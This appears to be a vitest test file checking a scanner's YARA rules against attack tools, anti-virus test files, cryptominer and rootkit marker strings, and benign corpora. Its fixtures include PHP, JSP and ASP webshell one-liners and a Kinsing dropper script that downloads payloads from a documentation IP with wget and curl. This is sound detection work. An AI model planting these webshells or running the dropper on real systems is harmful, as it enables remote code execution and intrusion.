/**
 * The YARA rules Detonate ships (`rules/yara/*.yar`), checked with YARA-X against real third-party files:
 * Debian's builds of the attack tools (also renamed), the EICAR string, ClamAV's test files, miner samples
 * synthesised from the miners' public strings; and for precision against hundreds of Wine PE files, a real
 * node_modules tree and the Debian minbase image, where nothing may match.
 */
import { copyFileSync, createReadStream, existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { compile, type RuleMatch, type YaraX } from '@litko/yara-x';
import tarStream from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FindingCategory } from '../../../src/model/index.js';
import { debianPackageDir } from '../../support/debian-packages.js';
import { debianImage } from '../../support/debian-image.js';
import { corpusDir, repoRoot } from '../../support/paths.js';

const rulesDir = join(repoRoot, 'rules', 'yara');
const ruleFiles = readdirSync(rulesDir).filter((f) => f.endsWith('.yar')).sort();
const ruleSources = new Map(ruleFiles.map((f) => [f, readFileSync(join(rulesDir, f), 'utf8')]));

const CATEGORIES: FindingCategory[] = [
  'cryptominer', 'hacking-tool', 'backdoor', 'windows-malware', 'malware', 'malicious-package', 'secret',
  'misconfiguration', 'windows-pe', 'suspicious',
];
const SEVERITIES = ['critical', 'high', 'moderate', 'low', 'info'];

let rules: YaraX;
let work: string;

beforeAll(() => {
  rules = compile([...ruleSources.values()].join('\n'));
  work = mkdtempSync(join(tmpdir(), 'detonate-rules-'));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

function scan(data: Buffer): RuleMatch[] {
  return rules.scan(data);
}

function names(matches: RuleMatch[]): string[] {
  return matches.map((m) => m.ruleIdentifier).sort();
}

function meta(match: RuleMatch): Record<string, unknown> {
  return match.meta as Record<string, unknown>;
}

/** Bytes that start like an x86-64 ELF executable, followed by the given NUL-terminated strings. */
function elf(...strings: string[]): Buffer {
  const header = Buffer.alloc(64);
  header.write('\x7fELF', 0, 'latin1');
  header[4] = 2; // 64-bit
  header[5] = 1; // little-endian
  header[6] = 1; // version
  header.writeUInt16LE(2, 16); // ET_EXEC
  header.writeUInt16LE(0x3e, 18); // x86-64
  return Buffer.concat([header, randomBytes(512), ...strings.map((s) => Buffer.from(`${s}\0`, 'latin1')), randomBytes(256)]);
}

/** The same strings with no executable magic: a document or blocklist that talks about the tool. */
function text(...strings: string[]): Buffer {
  return Buffer.from(`Notes on what we saw:\n${strings.join('\n')}\n`, 'latin1');
}

function xor(s: string, key: number): string {
  return Buffer.from(Buffer.from(s, 'latin1').map((b) => b ^ key)).toString('latin1');
}

/** Every regular file under `dir` (symlinks not followed). */
function* filesUnder(dir: string): Generator<string> {
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    const st = lstatSync(path);
    if (st.isDirectory()) yield* filesUnder(path);
    else if (st.isFile() && st.size > 0) yield path;
  }
}

describe('the shipped rule files', () => {
  it('compile together and each on its own, without warnings', () => {
    expect(ruleFiles).toEqual(['backdoor.yar', 'cryptominer.yar', 'hacking-tool.yar', 'malware.yar']);
    expect(rules.getWarnings()).toEqual([]);
    for (const [file, source] of ruleSources) {
      expect(() => compile(source), file).not.toThrow();
    }
  });

  it('give every public rule the meta a finding is built from', () => {
    const blocks = [...ruleSources.entries()].flatMap(([file, source]) =>
      [...source.matchAll(/^(private )?rule (\w+)\s*\{([\s\S]*?)^\}/gm)].map((m) => ({ file, isPrivate: !!m[1], name: m[2]!, body: m[3]! })));
    const publicRules = blocks.filter((b) => !b.isPrivate);
    expect(publicRules.length).toBeGreaterThan(50);
    expect(new Set(blocks.map((b) => b.name)).size).toBe(blocks.length);
    const fileCategory: Record<string, FindingCategory[]> = {
      'cryptominer.yar': ['cryptominer'],
      'hacking-tool.yar': ['hacking-tool'],
      'backdoor.yar': ['backdoor'],
      'malware.yar': ['malware'],
    };
    for (const rule of publicRules) {
      const metaText = /meta:([\s\S]*?)(strings:|condition:)/.exec(rule.body)?.[1] ?? '';
      const field = (key: string): string | undefined => new RegExp(`^\\s*${key} = "([^"]*)"`, 'm').exec(metaText)?.[1];
      const where = `${rule.file}: ${rule.name}`;
      expect(CATEGORIES, where).toContain(field('category'));
      expect(fileCategory[rule.file], where).toContain(field('category'));
      expect(SEVERITIES, where).toContain(field('severity'));
      expect(field('attack'), where).toMatch(/^(T\d{4}(\.\d{3})?(,T\d{4}(\.\d{3})?)*)?$/);
      expect(field('title')?.length ?? 0, where).toBeGreaterThan(5);
      expect(field('family')?.length ?? 0, where).toBeGreaterThan(1);
      expect(field('author'), where).toBe('Detonate');
      expect(field('license'), where).toBe('MIT');
    }
  });
});

describe('attack tools from Debian packages, found by content', () => {
  const tools: { pkg: string; file: string; rule: string; category: FindingCategory; title: RegExp }[] = [
    { pkg: 'nmap', file: 'usr/bin/nmap', rule: 'HackTool_Nmap', category: 'hacking-tool', title: /Nmap network scanner/ },
    { pkg: 'nmap', file: 'usr/bin/nping', rule: 'HackTool_Nping', category: 'hacking-tool', title: /Nping/ },
    { pkg: 'ncat', file: 'usr/bin/ncat', rule: 'HackTool_Ncat', category: 'hacking-tool', title: /Ncat/ },
    { pkg: 'masscan', file: 'usr/bin/masscan', rule: 'HackTool_Masscan', category: 'hacking-tool', title: /Masscan/ },
    { pkg: 'hydra', file: 'usr/bin/hydra', rule: 'HackTool_Hydra', category: 'hacking-tool', title: /Hydra/ },
    { pkg: 'medusa', file: 'usr/bin/medusa', rule: 'HackTool_Medusa', category: 'hacking-tool', title: /Medusa/ },
    { pkg: 'john', file: 'usr/sbin/john', rule: 'HackTool_JohnTheRipper', category: 'hacking-tool', title: /John the Ripper/ },
    { pkg: 'socat', file: 'usr/bin/socat', rule: 'HackTool_Socat', category: 'hacking-tool', title: /socat/ },
    { pkg: 'netcat-traditional', file: 'bin/nc.traditional', rule: 'HackTool_Netcat_Traditional', category: 'hacking-tool', title: /Netcat/ },
    { pkg: 'sqlmap', file: 'usr/share/sqlmap/sqlmap.py', rule: 'HackTool_Sqlmap', category: 'hacking-tool', title: /sqlmap/ },
    { pkg: 'zmap', file: 'usr/sbin/zmap', rule: 'HackTool_Zmap', category: 'hacking-tool', title: /ZMap/ },
    { pkg: 'gsocket', file: 'usr/bin/gs-netcat', rule: 'HackTool_GSocket', category: 'hacking-tool', title: /gs-netcat/ },
    {
      pkg: 'python3-impacket',
      file: 'usr/share/doc/python3-impacket/examples/secretsdump.py',
      rule: 'HackTool_Impacket_Script',
      category: 'hacking-tool',
      title: /Impacket/,
    },
  ];

  it.each(tools)('$file ($pkg) matches $rule, also under a random name', ({ pkg, file, rule, category, title }) => {
    const original = join(debianPackageDir(pkg), file);
    const renamed = join(work, `kworker-${randomBytes(6).toString('hex')}`);
    copyFileSync(original, renamed);
    for (const matches of [rules.scanFile(original), rules.scanFile(renamed)]) {
      expect(names(matches)).toEqual([rule]);
      expect(meta(matches[0]!)).toMatchObject({ category, author: 'Detonate', license: 'MIT' });
      expect(String(meta(matches[0]!)['title'])).toMatch(title);
    }
  });

  it('dual-use relays (socat, netcat, ncat) are hacking tools of low severity', () => {
    for (const [pkg, file] of [['socat', 'usr/bin/socat'], ['netcat-traditional', 'bin/nc.traditional'], ['ncat', 'usr/bin/ncat']] as const) {
      const [match] = rules.scanFile(join(debianPackageDir(pkg), file));
      expect(meta(match!)).toMatchObject({ category: 'hacking-tool', severity: 'low' });
    }
  });

  it('nothing else in those packages matches: man pages, docs, data files, helper binaries, plugins', () => {
    const matched: string[] = [];
    for (const pkg of ['nmap', 'ncat', 'masscan', 'hydra', 'medusa', 'john', 'socat', 'netcat-traditional', 'sqlmap']) {
      const root = debianPackageDir(pkg);
      for (const path of filesUnder(root)) {
        if (scan(readFileSync(path)).length > 0) matched.push(path.slice(root.length + 1));
      }
    }
    expect(matched.sort()).toEqual([
      'bin/nc.traditional', 'usr/bin/hydra', 'usr/bin/masscan', 'usr/bin/medusa', 'usr/bin/ncat', 'usr/bin/nmap',
      'usr/bin/nping', 'usr/bin/socat', 'usr/sbin/john', 'usr/share/sqlmap/sqlmap.py',
    ]);
  });

  it('the Impacket library itself is not an attack script: only its example scripts match', () => {
    const root = debianPackageDir('python3-impacket');
    const matched = [...filesUnder(root)].filter((path) => scan(readFileSync(path)).length > 0).map((path) => path.slice(root.length + 1));
    expect(matched.length).toBeGreaterThan(30);
    expect(matched.filter((path) => !path.startsWith('usr/share/doc/python3-impacket/examples/'))).toEqual([]);
  });

  it('the usage text alone, without an executable around it, does not match', () => {
    const usage = readFileSync(join(debianPackageDir('nmap'), 'usr/bin/nmap')).subarray(4); // ELF magic gone
    expect(scan(usage)).toEqual([]);
  });
});

describe('anti-virus test files', () => {
  const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

  it('the 68-byte EICAR string is malware "EICAR anti-virus test file"', () => {
    expect(EICAR).toHaveLength(68);
    const matches = scan(Buffer.from(EICAR));
    expect(names(matches)).toEqual(['Malware_EICAR_Test_File']);
    expect(meta(matches[0]!)).toMatchObject({ category: 'malware', severity: 'high', title: 'EICAR anti-virus test file' });
  });

  it('EICAR inside a larger text file is found too; a damaged copy is not', () => {
    const filler = 'lorem ipsum dolor sit amet\n'.repeat(20_000);
    expect(names(scan(Buffer.from(`${filler}${EICAR}\r\n${filler}`)))).toEqual(['Malware_EICAR_Test_File']);
    expect(scan(Buffer.from(`${filler}${EICAR.replace('EICAR', 'EICAP')}${filler}`))).toEqual([]);
  });

  it('ClamAV test file clam.exe (and the test files that carry it unpacked) is malware "ClamAV test file"', () => {
    const dir = join(debianPackageDir('clamav-testfiles'), 'usr/share/clamav-testfiles');
    const [match] = rules.scanFile(join(dir, 'clam.exe'));
    expect(match?.ruleIdentifier).toBe('Malware_ClamAV_Test_File');
    expect(meta(match!)).toMatchObject({ category: 'malware', title: 'ClamAV test file' });
    const matched = readdirSync(dir).filter((f) => rules.scanFile(join(dir, f)).length > 0).sort();
    // the packed PEs (UPX, ASPack, MEW, ...) hide clam.exe's bytes until run; FSG and the InstallShield cab keep them
    expect(matched).toEqual(expect.arrayContaining(['clam.exe', 'clam-fsg.exe', 'clam_IScab_ext.exe', 'clam.cab', 'clam.newc.cpio']));
    for (const f of matched) expect(names(rules.scanFile(join(dir, f)))).toEqual(['Malware_ClamAV_Test_File']);
  });
});

describe('cryptominers synthesised from their public strings', () => {
  const stratum = ['mining.subscribe', 'mining.authorize', 'mining.submit', 'stratum+tcp://'];
  const miners: { rule: string; title: RegExp; strings: string[] }[] = [
    {
      rule: 'Cryptominer_XMRig',
      title: /XMRig cryptominer/,
      strings: ['XMRig/6.21.0', 'donate.v2.xmrig.com', 'donate.ssl.xmrig.com', '--donate-level=N', 'rx/0', 'cn/r', 'randomx', 'cryptonight'],
    },
    {
      rule: 'Cryptominer_XMRig_Fork',
      title: /XMRig-derived/,
      strings: ['--donate-level=N', "'h' hashrate, 'p' pause, 'r' resume", 'rx/0', 'cn/r', 'URL of mining server', 'username for mining server', 'RandomX'],
    },
    { rule: 'Cryptominer_XmrStak', title: /xmr-stak/, strings: ['xmr-stak-rx', 'fireice-uk', 'pools.txt', 'cpu.txt', 'cryptonight_v8'] },
    { rule: 'Cryptominer_Cpuminer', title: /cpuminer/, strings: [...stratum, 'User-Agent: cpuminer/2.5.1', 'Usage: minerd [OPTIONS]', 'sha256d', 'scrypt'] },
    { rule: 'Cryptominer_Ccminer', title: /ccminer/, strings: [...stratum, 'ccminer', 'ccminer/2.3.1', 'tpruvot@github', 'CUDA'] },
    { rule: 'Cryptominer_TRex', title: /T-Rex/, strings: [...stratum, 'T-Rex', 'T-Rex NVIDIA GPU miner', 'https://trex-miner.com'] },
    { rule: 'Cryptominer_LolMiner', title: /lolMiner/, strings: [...stratum, 'lolMiner', 'lolMiner/1.76', 'Lolliedieb'] },
    { rule: 'Cryptominer_NBMiner', title: /NBMiner/, strings: [...stratum, 'NBMiner', 'NBMiner/42.3', 'NebuTech'] },
    { rule: 'Cryptominer_SRBMiner', title: /SRBMiner/, strings: [...stratum, 'SRBMiner-MULTI', 'doktor83'] },
    { rule: 'Cryptominer_Ethminer', title: /ethminer/, strings: ['eth_submitWork', 'eth_getWork', 'stratum1+tcp', 'ethminer', 'ethash', '--farm-recheck'] },
    { rule: 'Cryptominer_PhoenixMiner', title: /PhoenixMiner/, strings: ['eth_submitLogin', 'eth_submitWork', 'PhoenixMiner', 'phoenixminer.org', '-pool', '-wal'] },
    { rule: 'Cryptominer_GMiner', title: /GMiner/, strings: [...stratum, 'GMiner', 'GMiner/3.44', 'develsoftware'] },
    { rule: 'Cryptominer_Generic_Stratum_Client', title: /Stratum mining client/, strings: [...stratum, 'mining.notify'] },
  ];

  it.each(miners)('an ELF with $rule strings matches it alone, as a critical/high cryptominer', ({ rule, title, strings }) => {
    const matches = scan(elf(...strings));
    expect(names(matches)).toEqual([rule]);
    expect(meta(matches[0]!)['category']).toBe('cryptominer');
    expect(['critical', 'high']).toContain(meta(matches[0]!)['severity']);
    expect(meta(matches[0]!)['attack']).toBe('T1496');
    expect(String(meta(matches[0]!)['title'])).toMatch(title);
  });

  it.each(miners)('the $rule strings in a text file (a blocklist, a blog post) do not match', ({ strings }) => {
    expect(scan(text(...strings))).toEqual([]);
  });

  it('an executable that only names miners (an antivirus, a monitoring agent) does not match', () => {
    expect(scan(elf('xmrig', 'XMRig', 'donate.v2.xmrig.com', 'kill miners: xmrig minerd ccminer lolMiner NBMiner PhoenixMiner GMiner T-Rex'))).toEqual([]);
    expect(scan(elf('stratum+tcp://', 'mining.subscribe'))).toEqual([]);
  });
});

describe('backdoors, implants and webshells', () => {
  const samples: { name: string; data: Buffer; rule: string }[] = [
    { name: 'PHP eval of POST', data: Buffer.from('<?php @eval($_POST["cmd"]); ?>'), rule: 'Backdoor_Webshell_PHP_Eval_Request' },
    { name: 'PHP assert of REQUEST', data: Buffer.from('<?php assert( $_REQUEST [\'x\'] );'), rule: 'Backdoor_Webshell_PHP_Eval_Request' },
    { name: 'PHP base64 eval of GET', data: Buffer.from('GIF89a<?php eval(base64_decode($_GET[\'c\']));'), rule: 'Backdoor_Webshell_PHP_Eval_Request' },
    { name: 'PHP system of GET', data: Buffer.from('<?php echo system($_GET["c"]);'), rule: 'Backdoor_Webshell_PHP_Eval_Request' },
    { name: 'PHP variable function', data: Buffer.from('<?php $_POST["f"]($_POST["a"]);'), rule: 'Backdoor_Webshell_PHP_Eval_Request' },
    {
      name: 'JSP exec of parameter',
      data: Buffer.from('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
      rule: 'Backdoor_Webshell_JSP_Exec_Request',
    },
    { name: 'ASP eval of request', data: Buffer.from('<%eval request("pass")%>'), rule: 'Backdoor_Webshell_ASP_Eval_Request' },
    {
      name: 'WSO webshell',
      data: Buffer.from('<?php $auth_pass = "63a9f0ea7bb98050796b649e85481845"; $default_action = "FilesMan"; // WSO 2.5\n echo shell_exec($c); $x = base64_decode($_POST["p1"]);'),
      rule: 'Backdoor_Webshell_PHP_Family',
    },
    { name: 'Kinsing binary', data: elf('/tmp/kdevtmpfsi', 'main.masscan', 'main.backconnect', 'main.redisBrute'), rule: 'Backdoor_Kinsing' },
    {
      name: 'Kinsing dropper',
      data: Buffer.from('#!/bin/sh\nwget -q -O /tmp/kdevtmpfsi http://203.0.113.7/kdevtmpfsi\nchmod +x /tmp/kdevtmpfsi\ncurl -o /etc/kinsing http://203.0.113.7/kinsing\n'),
      rule: 'Backdoor_Kinsing_Dropper_Script',
    },
    { name: 'Mirai (XOR 0x22 table)', data: elf(xor('/bin/busybox MIRAI', 0x22), xor('dvrHelper', 0x22), xor('/dev/watchdog', 0x22)), rule: 'Backdoor_Mirai' },
    { name: 'Gafgyt', data: elf('KILLATTK', 'LOLNOGTFO', 'GETLOCALIP', 'Failed opening raw socket.'), rule: 'Backdoor_Gafgyt' },
    { name: 'Tsunami', data: elf('NOTICE %s :Kaiten wa goraku', 'TSUNAMI <target> <secs>', 'PAN <target> <port> <secs>', 'GETSPOOFS'), rule: 'Backdoor_Tsunami_Kaiten' },
    { name: 'XorDDoS', data: elf('BB2FA36AAA9541F0', '/etc/cron.hourly/gcc.sh'), rule: 'Backdoor_XorDDoS' },
    {
      name: 'libprocesshider source',
      data: Buffer.from('static const char* process_to_filter = "evil_script.py";\nstatic struct dirent* (*original_readdir)(DIR*) = NULL;\noriginal_readdir = dlsym(RTLD_NEXT, "readdir");\n'),
      rule: 'Backdoor_Libprocesshider',
    },
    { name: 'Diamorphine module', data: elf('name=diamorphine', 'hacked_getdents64', 'hacked_kill', 'module_hide', 'give_root'), rule: 'Backdoor_Diamorphine_Rootkit' },
  ];

  it.each(samples)('$name matches $rule as a critical backdoor', ({ data, rule }) => {
    const matches = scan(data);
    expect(names(matches)).toEqual([rule]);
    expect(meta(matches[0]!)).toMatchObject({ category: 'backdoor', severity: 'critical' });
  });

  it('benign look-alikes do not match', () => {
    const benign = [
      '<?php $name = htmlspecialchars($_POST["name"]); eval($template); echo $name;',
      'eval($_POST["x"]) is what a webshell looks like (a blog post: no PHP tag)',
      '<% String cmd = request.getParameter("q"); out.println(cmd); %>',
      '#!/bin/sh\n# remove the Kinsing miner\npkill -f kdevtmpfsi; pkill -f kinsing; rm -f /tmp/kdevtmpfsi\n',
      'processhider: readdir hooks are listed in /etc/ld.so.preload',
    ];
    for (const sample of benign) expect(scan(Buffer.from(sample)), sample).toEqual([]);
    expect(scan(elf('/dev/watchdog', '/dev/misc/watchdog', '/bin/busybox'))).toEqual([]); // busybox's watchdog applet
  });
});

describe('hostile input', () => {
  it('binary junk and pathological lines scan quickly without matches or errors', () => {
    const started = Date.now();
    expect(scan(randomBytes(8 * 1024 * 1024))).toEqual([]);
    expect(scan(Buffer.from(`<?php ${'eval( '.repeat(200_000)}`))).toEqual([]);
    expect(scan(Buffer.from(`<% ${'Runtime.getRuntime().exec( '.repeat(50_000)}`))).toEqual([]);
    expect(scan(Buffer.alloc(0))).toEqual([]);
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

describe('precision: benign files match nothing', () => {
  function matchesUnder(dir: string): { files: number; matched: string[] } {
    let files = 0;
    const matched: string[] = [];
    for (const path of filesUnder(dir)) {
      files++;
      for (const m of scan(readFileSync(path))) matched.push(`${m.ruleIdentifier} ${path}`);
    }
    return { files, matched };
  }

  it('Debian libwine: hundreds of Windows PE files', () => {
    const { files, matched } = matchesUnder(debianPackageDir('libwine'));
    expect(files).toBeGreaterThan(700);
    expect(matched).toEqual([]);
  });

  it('the project\'s own node_modules tree', () => {
    const { files, matched } = matchesUnder(join(repoRoot, 'node_modules'));
    expect(files).toBeGreaterThan(1000);
    expect(matched).toEqual([]);
  });

  it('other tools\' YARA rules, which quote the same strings, do not match', () => {
    const quoting = Buffer.from([
      'rule Webshell_Sample : webshell {',
      '  strings:',
      '    $a = "<?php @eval($_POST[\\"cmd\\"]);"',
      '    $b = "<% Runtime.getRuntime().exec(request.getParameter(\\"c\\")); %>"',
      '    $c = "X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"',
      '    $d = "hacked_getdents64" $e = "diamorphine_secret" $f = "module_hide" $g = "give_root"',
      '  condition:',
      '    any of them',
      '}',
    ].join('\n'));
    expect(scan(quoting)).toEqual([]);
    const corpusYara = join(corpusDir, 'yara');
    if (existsSync(corpusYara)) expect(matchesUnder(corpusYara).matched).toEqual([]);
  });

  it('the Debian minbase image (with python3, perl, curl)', async () => {
    const { rootfsTar } = await debianImage(); // built once with mmdebstrap, then cached
    let files = 0;
    const matched: string[] = [];
    await new Promise<void>((resolve, reject) => {
      const extract = tarStream.extract();
      extract.on('entry', (header, stream, next) => {
        const chunks: Buffer[] = [];
        stream.on('data', (c: unknown) => {
          chunks.push(c as Buffer);
        });
        stream.on('end', () => {
          if (header.type === 'file' && chunks.length > 0) {
            files++;
            for (const m of scan(Buffer.concat(chunks))) matched.push(`${m.ruleIdentifier} ${header.name}`);
          }
          next();
        });
        stream.on('error', reject);
      });
      extract.on('finish', resolve);
      extract.on('error', reject);
      createReadStream(rootfsTar).on('error', reject).pipe(extract);
    });
    expect(files).toBeGreaterThan(5000);
    expect(matched).toEqual([]);
  }, 300_000);
});
